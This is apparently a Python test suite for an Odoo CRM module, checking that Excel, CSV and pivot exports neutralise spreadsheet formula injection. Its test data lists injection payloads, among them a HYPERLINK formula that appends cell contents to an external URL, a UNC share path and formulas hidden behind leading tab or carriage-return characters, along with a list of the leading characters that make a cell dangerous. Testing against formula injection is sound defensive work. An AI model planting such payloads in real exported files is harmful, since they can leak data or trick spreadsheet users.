import csv
import io
import json

import openpyxl

from odoo.http import Request
from odoo.tests import HttpCase, new_test_user, tagged

LIVE = (
    "=1+1",
    "{=1+1}",
    '=HYPERLINK("http://example.com?"&A1;"Click")',
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "external:\\\\example\\share",
)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@tagged("post_install", "-at_install")
class TestExport(HttpCase):
    """No text of a customer is a formula in a file that somebody exports."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.manager = new_test_user(
            cls.env,
            "orders_export",
            groups="crm_orders_base.group_manager,base.group_allow_export",
            password="orders_export",
        )
        cls.leads = cls.env["crm.lead"].create(
            [
                {"name": text, "contact_name": text, "partner_name": text}
                for text in LIVE
            ]
        )

    def _export(self, kind, **params):
        self.authenticate("orders_export", "orders_export")
        names = ["name", "contact_name", "partner_name"]
        data = {
            "model": "crm.lead",
            "fields": [{"name": one, "label": one, "type": "char"} for one in names],
            "ids": self.leads.ids,
            "domain": [],
            "groupby": [],
            "import_compat": False,
            "context": {},
            **params,
        }
        return self._post(f"/web/export/{kind}", data)

    def _post(self, path, data):
        answer = self.url_open(
            path,
            data={"data": json.dumps(data), "csrf_token": Request.csrf_token(self)},
        )
        answer.raise_for_status()
        return answer.content

    def _get_cells(self, content):
        book = openpyxl.load_workbook(io.BytesIO(content))
        return [cell for row in book.active.iter_rows() for cell in row]

    def _assert_all_text(self, cells):
        for cell in cells:
            self.assertIn(cell.data_type, "sn", cell.value)
            self.assertFalse(cell.hyperlink, cell.value)

    def test_list_as_excel(self):
        cells = self._get_cells(self._export("xlsx"))
        self._assert_all_text(cells)
        found = {cell.value for cell in cells}
        for text in LIVE:
            self.assertIn(text.replace("\r", " "), found)

    def test_grouped_list_as_excel(self):
        cells = self._get_cells(self._export("xlsx", groupby=["contact_name"]))
        self._assert_all_text(cells)
        self.assertIn("=1+1 (1)", {cell.value for cell in cells})

    def test_list_as_csv(self):
        for compatible in (False, True):
            text = self._export("csv", import_compat=compatible).decode()
            rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
            self.assertEqual(len(rows), len(LIVE))
            for row in rows:
                for cell in row:
                    self.assertFalse(cell.startswith(DANGEROUS), cell)

    def test_websites_stay_links(self):
        self.leads[0].name = "https://example.com/"
        cells = self._get_cells(self._export("xlsx"))
        self.assertTrue(cells[3].hyperlink)

    def test_pivot_as_excel(self):
        self.authenticate("orders_export", "orders_export")
        table = {
            "title": "Leads",
            "model": "crm.lead",
            "measure_count": 1,
            "origin_count": 1,
            "col_group_headers": [[{"title": "=1+1", "width": 1, "height": 1}]],
            "measure_headers": [{"title": "=2+2", "is_bold": False, "width": 1}],
            "rows": [{"indent": 0, "title": "=3+3", "values": [{"value": 5}]}],
        }
        cells = self._get_cells(self._post("/web/pivot/export_xlsx", table))
        self._assert_all_text([cell for cell in cells if cell.value is not None])
        self.assertIn(5, {cell.value for cell in cells})
